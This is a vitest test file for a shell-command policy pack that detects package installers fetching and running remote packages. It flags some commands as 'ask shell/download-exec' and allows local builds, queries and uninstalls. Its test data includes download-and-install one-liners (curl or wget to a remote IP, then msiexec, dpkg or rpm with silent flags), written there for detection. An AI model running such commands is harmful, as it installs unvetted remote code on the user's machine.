/** Package installers that run a downloaded package's code (src/extract/shell-installers.ts). */
import { describe, expect, it } from 'vitest';
import { packVerdict } from '../helpers/command.js';
import { installedPackages } from '../../src/extract/shell-installers.js';

describe('the packages an installer installs', () => {
  it.each<[string, string[]]>([
    ['msiexec /i https://198.51.100.23/a.msi /qn', ['https://198.51.100.23/a.msi']],
    ['msiexec.exe /PACKAGE agent.msi /quiet', ['agent.msi']],
    ['msiexec -i agent.msi', ['agent.msi']],
    ['msiexec /p fix.msp', ['fix.msp']],
    ['msiexec /x {0000-1111} /qn', []],
    ['msiexec /uninstall agent.msi', []],
    ['rpm -ivh https://203.0.113.9/a.rpm', ['https://203.0.113.9/a.rpm']],
    ['rpm -Uvh --root /mnt a.rpm', ['a.rpm']],
    ['rpm --install a.rpm', ['a.rpm']],
    ['rpm -qip a.rpm', []],
    ['rpm -e agent', []],
    ['dpkg -i /tmp/a.deb', ['/tmp/a.deb']],
    ['dpkg -l', []],
    ['apt-get install -y ./a.deb curl', ['./a.deb', 'curl']],
    ['dnf install https://203.0.113.9/a.rpm', ['https://203.0.113.9/a.rpm']],
    ['apt-get remove curl', []],
    ['pkg add https://203.0.113.9/a.pkg', ['https://203.0.113.9/a.pkg']],
    ['installer -pkg /tmp/a.pkg -target /', ['/tmp/a.pkg']],
    ['Add-AppxPackage -Uri https://203.0.113.9/a.msix', ['https://203.0.113.9/a.msix']],
    ['Add-AppxPackage .\\a.msix', ['.\\a.msix']],
    // the installer named by its path
    ['/usr/bin/rpm -ivh https://203.0.113.9/a.rpm', ['https://203.0.113.9/a.rpm']],
    ['C:\\Windows\\System32\\msiexec.exe /i https://198.51.100.23/a.msi', ['https://198.51.100.23/a.msi']],
    ['C:WindowsSystem32msiexec.exe /i https://198.51.100.23/a.msi', ['https://198.51.100.23/a.msi']],
    ['/usr/bin/rpm -qa', []],
  ])('%s', (line, want) => expect(installedPackages(line.split(' '))).toEqual(want));
});

const verdict = await packVerdict('shell');

describe('end to end (shell pack)', () => {
  it.each([
    ['msiexec /i https://198.51.100.23/updates/agent.msi /qn', 'ask shell/download-exec'],
    ['msiexec /package http://203.0.113.9/a.msi /quiet', 'ask shell/download-exec'],
    [
      'curl -fsSLo /tmp/a.msi https://203.0.113.9/a.msi && msiexec /i /tmp/a.msi /qn',
      'ask shell/download-exec',
    ],
    ['sudo rpm -ivh https://203.0.113.9/pkgs/agent.rpm', 'ask shell/download-exec'],
    ['wget -O /tmp/a.deb https://203.0.113.9/a.deb && sudo dpkg -i /tmp/a.deb', 'ask shell/download-exec'],
    ['curl -LO https://203.0.113.9/a.deb && sudo apt install ./a.deb', 'ask shell/download-exec'],
    // a local package of the workspace, a query, an uninstall, a package by name
    ['msiexec /i ./dist/mytool.msi /qn', 'allow'],
    ['msiexec /x {12345678-1234-1234-1234-123456789012} /qn', 'allow'],
    ['dpkg -i ./build/mytool_1.0_amd64.deb', 'allow'],
    ['rpm -qip https://203.0.113.9/a.rpm', 'allow'],
    ['sudo apt-get install -y curl', 'allow'],
  ])('%s → %s', (line, want) => expect(verdict(line)).toBe(want));
});
